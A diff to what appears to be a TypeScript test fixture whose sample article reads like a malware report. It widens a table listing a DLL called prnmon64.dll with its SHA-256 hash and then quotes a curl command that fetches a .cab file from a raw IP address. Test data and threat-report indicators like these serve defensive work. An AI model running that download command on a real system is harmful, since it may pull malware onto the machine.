@@ -225,9 +225,9 @@ export function sampleArticle(changes: Partial<Article> = {}): Article {
 
 ## Files
 
-| File name | SHA-256 |
-| --- | --- |
-| prnmon64.dll | 6f1ed002ab5595859014ebf0951522d9a1bd1b1e6ccf6b1b6bc9c8f6e1a4d2b7 |
+| File name | SHA-256 | First seen | Remark |
+| --- | --- | --- | --- |
+| prnmon64.dll | 6f1ed002ab5595859014ebf0951522d9a1bd1b1e6ccf6b1b6bc9c8f6e1a4d2b7 | in September | The loader, unsigned |
 
 \`\`\`
 curl http://45.142.213.67/drv/setup.cab
